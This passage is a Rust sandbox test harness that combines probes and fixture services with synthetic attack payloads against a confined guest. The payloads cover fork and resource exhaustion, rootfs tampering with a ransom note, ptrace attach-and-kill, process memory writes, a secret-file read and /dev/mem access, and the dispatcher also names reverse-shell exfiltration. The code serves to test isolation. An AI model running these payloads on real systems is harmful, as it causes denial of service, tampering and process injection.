//! Multi-tool used by the test battery: fixture-guest init process,
//! in-sandbox probes, synthetic attack payloads, and tiny network services.
//!
//! Every payload is bounded and self-terminating; verdicts are derived by
//! the harness from guest/host observations, never from a payload's exit
//! status.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use plugcell::sandbox::ipc::FdChannel;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let code = match args.first().map(String::as_str) {
        // Runner plugin contract: argv = [exe, --args-json <json>]. The
        // json's `cmd` selects a check; results come back as collection
        // records on stdout.
        Some("--args-json") => plugin_mode(args.get(1).map(String::as_str).unwrap_or("{}")),
        Some("guest-init") => guest_init(&args[1..]),
        Some("report") => sandbox_report(&args[1..]),
        Some("write-fuzz") => write_fuzz(&args[1..]),
        Some("attack") => attack(&args[1..]),
        Some("marker-service") => marker_service(&args[1..]),
        Some("sleeper") => sleeper(&args[1..]),
        Some("spin") => spin(&args[1..]),
        Some("bench") => bench_cmd(&args[1..]),
        Some("cycle-bench") => cycle_bench(&args[1..]),
        Some("spawn-test") => {
            let exe = arg_value(&args[1..], "--exe").unwrap_or_default();
            let out = arg_value(&args[1..], "--out").unwrap_or_else(|| "/comm/spawn.json".into());
            let via_command = std::process::Command::new(&exe)
                .env("PLUGCELL_CYCLE", "0")
                .output()
                .map(|o| format!("ok stdout={} status={:?}", o.stdout.len(), o.status.code()))
                .unwrap_or_else(|e| format!("err {e}"));
            let with_null = std::process::Command::new(&exe)
                .env("PLUGCELL_CYCLE", "0")
                .stderr(std::process::Stdio::null())
                .output()
                .map(|o| format!("ok stdout={}", o.stdout.len()))
                .unwrap_or_else(|e| format!("err {e}"));
            let devnull_rw = {
                let r = std::fs::OpenOptions::new().read(true).write(true).open("/dev/null");
                format!("{:?} errno={}", r.is_ok(), errno_of(&r))
            };
            let devnull_ro = {
                let r = std::fs::File::open("/dev/null");
                format!("{:?} errno={}", r.is_ok(), errno_of(&r))
            };
            let ruid = unsafe { libc::getuid() };
            let euid = unsafe { libc::geteuid() };
            let access_x = unsafe {
                let c = std::ffi::CString::new(exe.clone()).unwrap();
                libc::access(c.as_ptr(), libc::X_OK)
            };
            let access_errno = if access_x == 0 { 0 } else { last_errno() };
            write_json(&out, &json!({
                "exe": exe, "via_command": via_command, "with_null": with_null,
                "devnull_rw": devnull_rw, "devnull_ro": devnull_ro,
                "ruid": ruid, "euid": euid,
                "access_x": access_x, "access_errno": access_errno,
            }));
            0
        }
        other => {
            eprintln!("unknown probe command {other:?}");
            2
        }
    };
    std::process::exit(code);
}

/// Behave as a collection plugin. `{"cmd":"proxy-check","target":"host:port"}`
/// probes loopback reachability directly and via the GET-only proxy;
/// `{"cmd":"crash"}` aborts (runner-isolation soak fixture). Anything else
/// emits one metric record.
fn plugin_mode(args_json: &str) -> i32 {
    let args: Value = serde_json::from_str(args_json).unwrap_or_default();
    let label = std::env::var("PLUGCELL_NAMESPACE_LABEL").unwrap_or_else(|_| "probe".into());
    let now_ms = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_millis() as i64)
        .unwrap_or(0);
    let emit = |key: &str, payload: Value| {
        let rec = serde_json::json!({
            "namespace_label": label,
            "feature_type": "metric",
            "feature_key": key,
            "timestamp": plugcell::timefmt::format_epoch_millis(now_ms),
            "cycle": 0,
            "payload": payload,
        });
        println!("{rec}");
    };
    match args["cmd"].as_str().unwrap_or("noop") {
        "crash" => {
            unsafe { libc::abort() };
        }
        "proxy-check" => {
            let target = args["target"].as_str().unwrap_or("127.0.0.1:8081");
            let direct = match target.parse() {
                Ok(sa) => match TcpStream::connect_timeout(&sa, Duration::from_millis(400)) {
                    Ok(_) => "connected".to_string(),
                    Err(e) if e.kind() == std::io::ErrorKind::TimedOut => "timeout".into(),
                    Err(e) => format!("error:{}", e.kind()),
                },
                Err(_) => "badaddr".into(),
            };
            let proxy_port = args["proxy_port"].as_u64().unwrap_or(3128) as u16;
            let via_proxy = (|| -> std::io::Result<String> {
                let mut s = TcpStream::connect_timeout(
                    &format!("127.0.0.1:{proxy_port}").parse().unwrap(),
                    Duration::from_millis(1000),
                )?;
                s.set_read_timeout(Some(Duration::from_millis(4000)))?;
                s.write_all(format!("GET http://{target}/status HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())?;
                let mut buf = [0u8; 256];
                let n = s.read(&mut buf)?;
                Ok(String::from_utf8_lossy(&buf[..n]).trim().to_string())
            })()
            .unwrap_or_else(|e| format!("error:{}", e.kind()));
            emit("proxy_check", serde_json::json!({"direct": direct, "via_proxy": via_proxy}));
        }
        _ => emit("noop", serde_json::json!({})),
    }
    0
}

fn arg_value(args: &[String], name: &str) -> Option<String> {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1))
        .cloned()
}

fn write_json(path: &str, value: &Value) {
    if let Ok(mut f) = fs::File::create(path) {
        let _ = f.write_all(value.to_string().as_bytes());
        let _ = f.flush();
    }
}

fn last_errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

// ---------------------------------------------------------------- guest init

/// Pid 1 of a fixture guest: spawns the fixture workload, reaps orphans,
/// and answers probe commands over an inherited seqpacket fd.
fn guest_init(args: &[String]) -> i32 {
    let ctrl_fd: i32 = arg_value(args, "--ctrl-fd").and_then(|v| v.parse().ok()).unwrap_or(3);
    let chan = unsafe { FdChannel::from_raw(ctrl_fd) };

    // Fixture workload: a sleeper holding a known file open and publishing
    // a writable memory marker, a victim sleeper for signal probes, and a
    // loopback-only service that records any delivered payload.
    let exe = std::env::current_exe()
        .unwrap_or_else(|_| PathBuf::from("/opt/plugcell/bin/plugcell-probe"));
    let sleeper = std::process::Command::new(&exe)
        .args(["sleeper", "--open", "/tmp/data.log", "--publish", "/tmp"])
        .spawn();
    let victim = std::process::Command::new(&exe).args(["sleeper"]).spawn();
    let _listener = TcpListener::bind("0.0.0.0:8080").ok();
    let loopback = std::process::Command::new(&exe)
        .args([
            "marker-service",
            "--addr",
            "127.0.0.1:8081",
            "--marker",
            "/tmp/loopback-pwned",
        ])
        .spawn();

    let _ = chan.send(&json!({
        "ready": true,
        "sleeper_pid": sleeper.as_ref().map(|c| c.id() as i64).unwrap_or(0),
        "victim_pid": victim.as_ref().map(|c| c.id() as i64).unwrap_or(0),
        "loopback_pid": loopback.as_ref().map(|c| c.id() as i64).unwrap_or(0),
    }));

    loop {
        // Reap orphans reparented to us (pid 1 duty).
        loop {
            let mut status = 0;
            if unsafe { libc::waitpid(-1, &mut status, libc::WNOHANG) } <= 0 {
                break;
            }
        }
        let msg: Value = match chan.recv(Duration::from_millis(200)) {
            Ok(m) => m,
            Err(e) if e.kind() == std::io::ErrorKind::TimedOut => continue,
            Err(_) => return 0, // harness went away; die with the namespace
        };
        let stop = msg["cmd"] == "shutdown";
        let reply = handle_guest_cmd(&msg, &exe);
        let _ = chan.send(&reply);
        if stop {
            return 0;
        }
    }
}

fn handle_guest_cmd(msg: &Value, exe: &Path) -> Value {
    match msg["cmd"].as_str().unwrap_or("") {
        "ping" | "shutdown" => json!({"ok": true}),
        "spawn-ok" => {
            let ok = std::process::Command::new(exe)
                .args(["spin", "--ms", "1"])
                .status()
                .map(|s| s.success())
                .unwrap_or(false);
            json!({"ok": ok})
        }
        "alloc" => {
            let mb = msg["mb"].as_u64().unwrap_or(16) as usize;
            let mut blocks = Vec::new();
            for _ in 0..mb {
                let mut block = vec![0u8; 1 << 20];
                block[4096] = 1;
                blocks.push(block);
            }
            json!({"ok": blocks.len() == mb})
        }
        "bind" => {
            let port = msg["port"].as_u64().unwrap_or(9010) as u16;
            json!({"ok": TcpListener::bind(("0.0.0.0", port)).is_ok()})
        }
        "bench" => {
            let ms = msg["ms"].as_u64().unwrap_or(500);
            let (iters, wall_ms, cpu_ms, steal_ms) = bench_detail(ms);
            // Scheduled share of the machine's real (non-stolen) capacity:
            // robust against hypervisor noise on shared hosts.
            let share = cpu_ms / (wall_ms - steal_ms).max(1.0);
            json!({"iters": iters, "wall_ms": wall_ms, "cpu_ms": cpu_ms,
                   "steal_ms": steal_ms, "share": share})
        }
        "read" => match fs::read_to_string(msg["path"].as_str().unwrap_or("")) {
            Ok(data) => json!({"ok": true, "data": data}),
            Err(e) => json!({"ok": false, "error": e.to_string()}),
        },
        "count-procs" => {
            let count = fs::read_dir("/proc")
                .map(|entries| {
                    entries
                        .flatten()
                        .filter(|e| e.file_name().to_string_lossy().parse::<u32>().is_ok())
                        .count()
                })
                .unwrap_or(0);
            json!({"count": count})
        }
        "alive" => {
            let pid = msg["pid"].as_i64().unwrap_or(0);
            json!({"alive": Path::new(&format!("/proc/{pid}")).exists()})
        }
        "kill" => {
            let pid = msg["pid"].as_i64().unwrap_or(0) as i32;
            let sig = msg["sig"].as_i64().unwrap_or(9) as i32;
            json!({"ok": pid > 1 && unsafe { libc::kill(pid, sig) } == 0})
        }
        "run" => run_in_guest(msg, exe),
        other => json!({"ok": false, "error": format!("unknown cmd {other}")}),
    }
}

/// Execute a command inside the guest context, capturing bounded stdout.
/// With `"detach": true` the reply carries just the child pid and the
/// process runs on while further commands are served.
fn run_in_guest(msg: &Value, exe: &Path) -> Value {
    let argv: Vec<String> = msg["argv"]
        .as_array()
        .map(|a| a.iter().filter_map(|v| v.as_str().map(str::to_string)).collect())
        .unwrap_or_default();
    if argv.is_empty() {
        return json!({"ok": false, "error": "empty argv"});
    }
    let timeout_ms = msg["timeout_ms"].as_u64().unwrap_or(30_000);
    let (program, rest): (PathBuf, &[String]) = if argv[0].starts_with('/') {
        (PathBuf::from(&argv[0]), &argv[1..])
    } else {
        (exe.to_path_buf(), &argv[..])
    };
    if msg["detach"] == true {
        return match std::process::Command::new(&program)
            .args(rest)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
        {
            Ok(child) => json!({"ok": true, "pid": child.id()}),
            Err(e) => json!({"ok": false, "error": e.to_string()}),
        };
    }
    let spawned = std::process::Command::new(&program)
        .args(rest)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn();
    let mut child = match spawned {
        Ok(c) => c,
        Err(e) => return json!({"ok": false, "error": e.to_string()}),
    };
    let mut stdout = child.stdout.take();
    let reader = std::thread::spawn(move || {
        let mut buf = Vec::new();
        if let Some(out) = stdout.as_mut() {
            let _ = out.read_to_end(&mut buf);
        }
        buf
    });
    let deadline = Instant::now() + Duration::from_millis(timeout_ms);
    let code = loop {
        match child.try_wait() {
            Ok(Some(st)) => break st.code().unwrap_or(-1),
            Ok(None) if Instant::now() > deadline => {
                let _ = child.kill();
                let _ = child.wait();
                break -99;
            }
            Ok(None) => std::thread::sleep(Duration::from_millis(10)),
            Err(_) => break -1,
        }
    };
    let out = reader.join().unwrap_or_default();
    json!({
        "ok": true,
        "code": code,
        "stdout": String::from_utf8_lossy(&out[..out.len().min(1 << 20)]),
    })
}

// ------------------------------------------------------------------ services

/// Sleep forever; optionally hold a file open and publish a writable
/// memory buffer's address so memory-write payloads have a real target.
fn sleeper(args: &[String]) -> i32 {
    let mut marker = *b"CLEAN\0\0\0";
    if let Some(path) = arg_value(args, "--open") {
        let f = fs::OpenOptions::new().create(true).append(true).open(&path).ok();
        std::mem::forget(f);
    }
    let publish = arg_value(args, "--publish");
    loop {
        if let Some(dir) = &publish {
            let _ = fs::write(format!("{dir}/addr"), format!("{:p}", marker.as_ptr()));
            let end = marker.iter().position(|b| *b == 0).unwrap_or(marker.len());
            let _ = fs::write(format!("{dir}/marker"), &marker[..end]);
        }
        std::thread::sleep(Duration::from_millis(200));
        std::hint::black_box(&mut marker);
    }
}

/// Accept loop recording any delivered payload line into a marker file:
/// stands in for an exploitable loopback service or an external
/// collection point. `PLUGCELL_NETNS` joins a target network namespace
/// first (the "external collector" runs host-side but listens inside the
/// guest's address space).
fn marker_service(args: &[String]) -> i32 {
    if let Ok(ns) = std::env::var("PLUGCELL_NETNS") {
        let c = std::ffi::CString::new(ns).unwrap();
        let fd = unsafe { libc::open(c.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
        if fd < 0 || unsafe { libc::setns(fd, libc::CLONE_NEWNET) } != 0 {
            eprintln!("netns join failed: {}", std::io::Error::last_os_error());
            return 1;
        }
        unsafe { libc::close(fd) };
    }
    let addr = arg_value(args, "--addr").unwrap_or_else(|| "127.0.0.1:8081".into());
    let marker = arg_value(args, "--marker").unwrap_or_else(|| "/tmp/marker".into());
    let listener = match TcpListener::bind(&addr) {
        Ok(l) => l,
        Err(e) => {
            eprintln!("bind {addr}: {e}");
            return 1;
        }
    };
    for conn in listener.incoming() {
        let Ok(mut c) = conn else { continue };
        c.set_read_timeout(Some(Duration::from_millis(500))).ok();
        let mut buf = [0u8; 4096];
        let n = c.read(&mut buf).unwrap_or(0);
        let _ = fs::write(&marker, &buf[..n]);
        let _ = c.write_all(b"ack\n");
    }
    0
}

fn spin(args: &[String]) -> i32 {
    let ms: u64 = arg_value(args, "--ms").and_then(|v| v.parse().ok()).unwrap_or(1000);
    let deadline = Instant::now() + Duration::from_millis(ms);
    let mut x = 0u64;
    while Instant::now() < deadline {
        for _ in 0..10_000 {
            x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
        }
        std::hint::black_box(x);
    }
    0
}

fn bench_iters(ms: u64) -> u64 {
    bench_detail(ms).0
}

fn thread_cputime_ms() -> f64 {
    let mut ts = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
    ts.tv_sec as f64 * 1000.0 + ts.tv_nsec as f64 / 1e6
}

fn steal_ms() -> f64 {
    // Hypervisor steal, in clock ticks, from the cpu summary line.
    let stat = fs::read_to_string("/proc/stat").unwrap_or_default();
    let tick_ms = 1000.0 / unsafe { libc::sysconf(libc::_SC_CLK_TCK) } as f64;
    stat.lines()
        .next()
        .and_then(|l| l.split_whitespace().nth(8))
        .and_then(|v| v.parse::<f64>().ok())
        .map(|ticks| ticks * tick_ms)
        .unwrap_or(0.0)
}

/// (iterations, wall ms, this thread's cpu ms, machine steal ms delta).
fn bench_detail(ms: u64) -> (u64, f64, f64, f64) {
    let start = Instant::now();
    let cpu0 = thread_cputime_ms();
    let steal0 = steal_ms();
    let deadline = start + Duration::from_millis(ms);
    let mut iters = 0u64;
    let mut x = 12345u64;
    while Instant::now() < deadline {
        for _ in 0..10_000 {
            x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
        }
        std::hint::black_box(x);
        iters += 1;
    }
    (
        iters,
        start.elapsed().as_secs_f64() * 1000.0,
        thread_cputime_ms() - cpu0,
        steal_ms() - steal0,
    )
}

fn bench_cmd(args: &[String]) -> i32 {
    let ms: u64 = arg_value(args, "--ms").and_then(|v| v.parse().ok()).unwrap_or(1000);
    println!("{}", json!({"iters": bench_iters(ms)}));
    0
}

/// Run all reference collectors for N cycles; report timing and record
/// counts to a JSON file. Used inside the sandbox (as the runner image)
/// and inside the guest for the perf comparison. `--forever` spins cycles
/// until killed (benchmark interference load).
fn cycle_bench(args: &[String]) -> i32 {
    let cycles: u64 = arg_value(args, "--cycles").and_then(|v| v.parse().ok()).unwrap_or(10);
    let forever = args.iter().any(|a| a == "--forever");
    let interval_ms: u64 = arg_value(args, "--interval-ms").and_then(|v| v.parse().ok()).unwrap_or(0);
    let out = arg_value(args, "--out").unwrap_or_else(|| "/comm/perf.json".into());
    let guest_root = arg_value(args, "--guest-root").unwrap_or_else(|| "/guest".into());
    let guest_cgroup = arg_value(args, "--guest-cgroup").unwrap_or_else(|| "/guest-cgroup".into());
    // Inside the sandbox (or a guest) /proc/self/exe names the original
    // host path, which the pivoted mount tree does not contain; the staged
    // bin mount is the reliable location.
    let staged = PathBuf::from("/opt/plugcell/bin");
    let bin_dir = if staged.join("collect-os").exists() {
        staged
    } else {
        std::env::current_exe()
            .ok()
            .and_then(|p| p.parent().map(Path::to_path_buf))
            .unwrap_or(staged)
    };

    let collectors = [
        "collect-os",
        "collect-processes",
        "collect-open-files",
        "collect-connections",
        "collect-metrics",
    ];
    let start = Instant::now();
    let mut records = 0u64;
    let mut cycle = 0u64;
    let mut last_error = String::new();
    loop {
        for c in &collectors {
            let output = std::process::Command::new(bin_dir.join(c))
                .env("PLUGCELL_CYCLE", cycle.to_string())
                .env("PLUGCELL_GUEST_ROOT", &guest_root)
                .env("PLUGCELL_GUEST_CGROUP", &guest_cgroup)
                .stderr(std::process::Stdio::null())
                .output();
            match output {
                Ok(o) => records += o.stdout.iter().filter(|b| **b == b'\n').count() as u64,
                Err(e) => last_error = format!("{c}: {e}"),
            }
        }
        cycle += 1;
        if !forever && cycle >= cycles {
            break;
        }
        if interval_ms > 0 {
            std::thread::sleep(Duration::from_millis(interval_ms));
        }
    }
    let elapsed_ms = start.elapsed().as_millis() as u64;
    write_json(
        &out,
        &json!({
            "cycles": cycle,
            "elapsed_ms": elapsed_ms,
            "per_cycle_ms": elapsed_ms as f64 / cycle.max(1) as f64,
            "records": records,
            "last_error": last_error,
        }),
    );
    0
}

// ---------------------------------------------------------------- the probes

fn errno_of<T>(r: &std::io::Result<T>) -> i32 {
    r.as_ref().err().and_then(|e| e.raw_os_error()).unwrap_or(0)
}

/// Comprehensive in-sandbox observation dump, written to `--out`
/// (default `/comm/probe.json`).
fn sandbox_report(args: &[String]) -> i32 {
    let out = arg_value(args, "--out").unwrap_or_else(|| "/comm/probe.json".into());
    let guest_root = arg_value(args, "--guest-root").unwrap_or_else(|| "/guest".into());
    let target_pid: i32 = arg_value(args, "--target-pid").and_then(|v| v.parse().ok()).unwrap_or(0);

    let caps = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let cap_field = |k: &str| {
        caps.lines()
            .find_map(|l| l.strip_prefix(k).map(|r| r.trim().to_string()))
            .unwrap_or_default()
    };

    let pids: Vec<i32> = fs::read_dir("/proc")
        .map(|entries| {
            entries
                .flatten()
                .filter_map(|e| e.file_name().to_string_lossy().parse().ok())
                .collect()
        })
        .unwrap_or_default();
    let etc_entries = fs::read_dir(format!("{guest_root}/etc")).map(|e| e.count()).unwrap_or(0);
    let secret = fs::read(format!("{guest_root}/etc/secret.txt"));

    let write_res = fs::write(format!("{guest_root}/tmp/probe-write"), b"x");
    let unlink_res = fs::remove_file(format!("{guest_root}/etc/hostname"));

    let ptrace_errno = if target_pid > 0 {
        let rc = unsafe { libc::ptrace(libc::PTRACE_ATTACH, target_pid, 0, 0) };
        if rc == 0 {
            unsafe {
                let mut status = 0;
                libc::waitpid(target_pid, &mut status, 0);
                libc::ptrace(libc::PTRACE_DETACH, target_pid, 0, 0);
            }
            0
        } else {
            last_errno()
        }
    } else {
        -1
    };
    let pvw_errno = if target_pid > 0 {
        let data = b"X";
        let local = libc::iovec {
            iov_base: data.as_ptr() as *mut libc::c_void,
            iov_len: 1,
        };
        let remote = libc::iovec {
            iov_base: 0x1000 as *mut libc::c_void,
            iov_len: 1,
        };
        let rc = unsafe { libc::process_vm_writev(target_pid, &local, 1, &remote, 1, 0) };
        if rc < 0 {
            last_errno()
        } else {
            0
        }
    } else {
        -1
    };
    let bind_res = TcpListener::bind("0.0.0.0:9321");
    let kill_errno = if target_pid > 0 {
        if unsafe { libc::kill(target_pid, libc::SIGKILL) } == 0 {
            0
        } else {
            last_errno()
        }
    } else {
        -1
    };
    let devmem = fs::File::open("/dev/mem");
    let guest_devmem = fs::File::open(format!("{guest_root}/dev/mem"));

    let connect_probe = |addr: &str| -> String {
        match addr.parse() {
            Ok(sa) => match TcpStream::connect_timeout(&sa, Duration::from_millis(400)) {
                Ok(_) => "connected".into(),
                Err(e) if e.kind() == std::io::ErrorKind::TimedOut => "timeout".into(),
                Err(e) if e.kind() == std::io::ErrorKind::ConnectionRefused => "refused".into(),
                Err(e) => format!("error:{}", e.kind()),
            },
            Err(_) => "badaddr".into(),
        }
    };

    let report = json!({
        "uid": unsafe { libc::getuid() },
        "euid": unsafe { libc::geteuid() },
        "cap_eff": cap_field("CapEff:"),
        "cap_bnd": cap_field("CapBnd:"),
        "cap_amb": cap_field("CapAmb:"),
        "pid_count": pids.len(),
        "pids": pids,
        "etc_entries": etc_entries,
        "secret_read_len": secret.as_ref().map(|b| b.len()).ok(),
        "write_errno": errno_of(&write_res),
        "unlink_errno": errno_of(&unlink_res),
        "ptrace_errno": ptrace_errno,
        "process_vm_writev_errno": pvw_errno,
        "bind_errno": errno_of(&bind_res),
        "kill_errno": kill_errno,
        "devmem_errno": errno_of(&devmem),
        "guest_devmem_errno": errno_of(&guest_devmem),
        "connect_loopback": connect_probe("127.0.0.1:8081"),
        "connect_backend": connect_probe("127.99.0.1:4433"),
        "connect_external": connect_probe("127.88.0.1:7070"),
        "hostname": fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default().trim().to_string(),
    });
    write_json(&out, &report);
    0
}

/// Attempt `--attempts` random mutations under `--root`; report every
/// outcome. The harness asserts 100% denial.
fn write_fuzz(args: &[String]) -> i32 {
    use rand::Rng;
    let root = arg_value(args, "--root").unwrap_or_else(|| "/guest".into());
    let attempts: usize = arg_value(args, "--attempts").and_then(|v| v.parse().ok()).unwrap_or(1000);
    let out = arg_value(args, "--out").unwrap_or_else(|| "/comm/fuzz.json".into());

    // Candidate paths from a read-only walk.
    let mut paths = Vec::new();
    let mut stack = vec![PathBuf::from(&root)];
    while let Some(dir) = stack.pop() {
        if paths.len() > 2000 {
            break;
        }
        if let Ok(entries) = fs::read_dir(&dir) {
            for e in entries.flatten() {
                let p = e.path();
                if e.file_type().map(|t| t.is_dir() && !t.is_symlink()).unwrap_or(false) {
                    stack.push(p.clone());
                }
                paths.push(p);
            }
        }
    }
    if paths.is_empty() {
        paths.push(PathBuf::from(&root));
    }

    let mut rng = rand::rng();
    let mut denied = 0usize;
    let mut succeeded: Vec<String> = Vec::new();
    for i in 0..attempts {
        let target = &paths[rng.random_range(0..paths.len())];
        let fresh = target.join(format!("fz{i}"));
        let op = i % 5;
        let outcome: std::io::Result<()> = match op {
            0 => fs::write(&fresh, b"z"),
            1 => match fs::remove_file(target) {
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => Err(e),
                r => r,
            },
            2 => fs::create_dir(&fresh),
            3 => {
                use std::os::unix::fs::PermissionsExt;
                fs::set_permissions(target, fs::Permissions::from_mode(0o777))
            }
            _ => fs::rename(target, &fresh),
        };
        match outcome {
            Ok(()) => succeeded.push(format!("op{op}:{}", fresh.display())),
            Err(_) => denied += 1,
        }
    }
    write_json(
        &out,
        &json!({
            "attempts": attempts,
            "denied": denied,
            "succeeded": succeeded,
        }),
    );
    0
}

// ------------------------------------------------------------------- attacks

/// Synthetic attack payloads. Each writes a JSON report of exactly what it
/// managed to do to `--out`.
fn attack(args: &[String]) -> i32 {
    let name = args.first().cloned().unwrap_or_default();
    let out = arg_value(args, "--out").unwrap_or_else(|| "/comm/attack.json".into());
    let root = arg_value(args, "--root").unwrap_or_else(|| "/guest".into());
    let target_pid: i32 = arg_value(args, "--target-pid").and_then(|v| v.parse().ok()).unwrap_or(0);

    let report = match name.as_str() {
        "rootfs_tamper" => attack_rootfs_tamper(&root),
        "fork_bomb" => attack_fork_bomb(),
        "mem_hog" => attack_mem_hog(&out),
        "cpu_hog" => attack_cpu_hog(),
        "zip_bomb" => attack_zip_bomb(&root, &out),
        "port_hoard" => attack_port_hoard(),
        "code_inject_ptrace" => attack_code_inject(target_pid),
        "procmem_write" => attack_procmem_write(&root, target_pid),
        "ld_preload_hook" => attack_ld_preload(&root),
        "covert_exec" => attack_covert_exec(),
        "reverse_shell_exfil" => attack_reverse_shell(&root),
        "loopback_attack" => attack_loopback(),
        "disk_privesc_tmpfile" => attack_disk_privesc(&root),
        "signal_kill_guest" => attack_signal_kill(target_pid),
        "devmem_access" => attack_devmem(&root),
        other => json!({"error": format!("unknown attack {other}")}),
    };
    write_json(&out, &report);
    0
}

fn attack_rootfs_tamper(root: &str) -> Value {
    let mut mutations = 0;
    let mut attempts = 0;
    for (path, op) in [
        (format!("{root}/etc/os-release"), "truncate"),
        (format!("{root}/etc/hostname"), "write"),
        (format!("{root}/etc/secret.txt"), "unlink"),
        (format!("{root}/etc/ransom.note"), "create"),
        (format!("{root}/var/marker"), "create"),
        (format!("{root}/var/cache/app/state.json"), "write"),
        (format!("{root}/var/cache/app/ransom.note"), "create"),
    ] {
        attempts += 1;
        let ok = match op {
            "truncate" => fs::OpenOptions::new().write(true).truncate(true).open(&path).is_ok(),
            "write" => fs::write(&path, b"tampered").is_ok(),
            "unlink" => fs::remove_file(&path).is_ok(),
            _ => fs::write(&path, b"#!/bin/sh\n").is_ok(),
        };
        if ok {
            mutations += 1;
        }
    }
    json!({"attempts": attempts, "mutations": mutations})
}

/// Bounded self-amplifying fork storm: two generations per spawn, children
/// linger briefly then exit on their own.
fn attack_fork_bomb() -> Value {
    const TARGET: usize = 256;
    let mut spawned = 0usize;
    let mut failures = 0usize;
    let mut children = Vec::new();
    for _ in 0..TARGET / 2 {
        match unsafe { libc::fork() } {
            0 => unsafe {
                let grand = libc::fork();
                if grand == 0 {
                    libc::usleep(1_500_000);
                    libc::_exit(0);
                }
                libc::usleep(1_500_000);
                libc::_exit(0);
            },
            -1 => failures += 1,
            pid => {
                spawned += 1;
                children.push(pid);
            }
        }
    }
    std::thread::sleep(Duration::from_millis(1800));
    for pid in children {
        let mut status = 0;
        unsafe { libc::waitpid(pid, &mut status, 0) };
    }
    json!({"spawned": spawned, "failures": failures, "target": TARGET})
}

fn attack_mem_hog(out: &str) -> Value {
    const TARGET_MB: usize = 192;
    let mut blocks = Vec::new();
    let mut reached = 0usize;
    for i in 0..TARGET_MB {
        let mut block = vec![0u8; 1 << 20];
        for page in (0..block.len()).step_by(4096) {
            block[page] = 1;
        }
        blocks.push(block);
        reached = i + 1;
        if reached % 8 == 0 {
            // Progress survives an OOM kill.
            write_json(out, &json!({"reached_mb": reached, "target_mb": TARGET_MB}));
        }
    }
    json!({"reached_mb": reached, "target_mb": TARGET_MB})
}

fn attack_cpu_hog() -> Value {
    let threads: Vec<_> = (0..4)
        .map(|_| {
            std::thread::spawn(|| {
                let deadline = Instant::now() + Duration::from_millis(4000);
                let mut x = 1u64;
                while Instant::now() < deadline {
                    for _ in 0..10_000 {
                        x = x.wrapping_mul(2862933555777941757).wrapping_add(3037000493);
                    }
                    std::hint::black_box(x);
                }
            })
        })
        .collect();
    for t in threads {
        let _ = t.join();
    }
    json!({"spinners": 4, "duration_ms": 4000})
}

/// Space explosion: a tiny input "decompresses" into zero blocks until the
/// environment stops it.
fn attack_zip_bomb(root: &str, out: &str) -> Value {
    const TARGET_MB: usize = 256;
    let dir = if fs::write("/tmp/.bombtest", b"x").is_ok() {
        let _ = fs::remove_file("/tmp/.bombtest");
        "/tmp".to_string()
    } else {
        format!("{root}/tmp")
    };
    let path = format!("{dir}/bomb.out");
    let mut written_mb = 0usize;
    if let Ok(mut f) = fs::OpenOptions::new().create(true).write(true).open(&path) {
        let block = vec![0u8; 1 << 20];
        for i in 0..TARGET_MB {
            if f.write_all(&block).is_err() {
                break;
            }
            written_mb = i + 1;
            if written_mb % 16 == 0 {
                let _ = f.flush();
                write_json(
                    out,
                    &json!({"written_mb": written_mb, "path": path, "target_mb": TARGET_MB}),
                );
            }
        }
    }
    let _ = fs::remove_file(&path);
    json!({"written_mb": written_mb, "path": path, "target_mb": TARGET_MB})
}

fn attack_port_hoard() -> Value {
    let mut held = Vec::new();
    let mut bound = 0;
    let mut first_errno = 0;
    for port in 9000..9064u16 {
        match TcpListener::bind(("0.0.0.0", port)) {
            Ok(l) => {
                bound += 1;
                held.push(l);
            }
            Err(e) => {
                if first_errno == 0 {
                    first_errno = e.raw_os_error().unwrap_or(0);
                }
            }
        }
    }
    // Hold the hoard long enough for the harness to probe the guest.
    std::thread::sleep(Duration::from_millis(2500));
    json!({"bound": bound, "attempted": 64, "first_errno": first_errno})
}

fn attack_code_inject(target_pid: i32) -> Value {
    if target_pid <= 0 {
        return json!({"error": "no target pid"});
    }
    let rc = unsafe { libc::ptrace(libc::PTRACE_ATTACH, target_pid, 0, 0) };
    if rc != 0 {
        return json!({"attached": false, "errno": last_errno()});
    }
    let mut status = 0;
    unsafe { libc::waitpid(target_pid, &mut status, 0) };
    // Corruption via forced termination: the bluntest injection outcome.
    let killed = unsafe { libc::ptrace(libc::PTRACE_KILL, target_pid, 0, 0) } == 0
        || unsafe { libc::kill(target_pid, libc::SIGKILL) } == 0;
    unsafe { libc::ptrace(libc::PTRACE_DETACH, target_pid, 0, 0) };
    json!({"attached": true, "killed": killed})
}

fn attack_procmem_write(root: &str, target_pid: i32) -> Value {
    if target_pid <= 0 {
        return json!({"error": "no target pid"});
    }
    // The fixture sleeper publishes its marker buffer address in /tmp.
    let addr_file = if Path::new(&format!("{root}/tmp/addr")).exists() {
        format!("{root}/tmp/addr")
    } else {
        "/tmp/addr".to_string()
    };
    let addr = fs::read_to_string(&addr_file)
        .ok()
        .and_then(|s| u64::from_str_radix(s.trim().trim_start_matches("0x"), 16).ok())
        .unwrap_or(0);
    if addr == 0 {
        return json!({"error": "no published address"});
    }
    let payload = b"PWNED";
    let local = libc::iovec {
        iov_base: payload.as_ptr() as *mut libc::c_void,
        iov_len: payload.len(),
    };
    let remote = libc::iovec {
        iov_base: addr as *mut libc::c_void,
        iov_len: payload.len(),
    };
    let rc = unsafe { libc::process_vm_writev(target_pid, &local, 1, &remote, 1, 0) };
    let errno = if rc < 0 { last_errno() } else { 0 };
    json!({
        "wrote": rc == payload.len() as isize,
        "errno": errno,
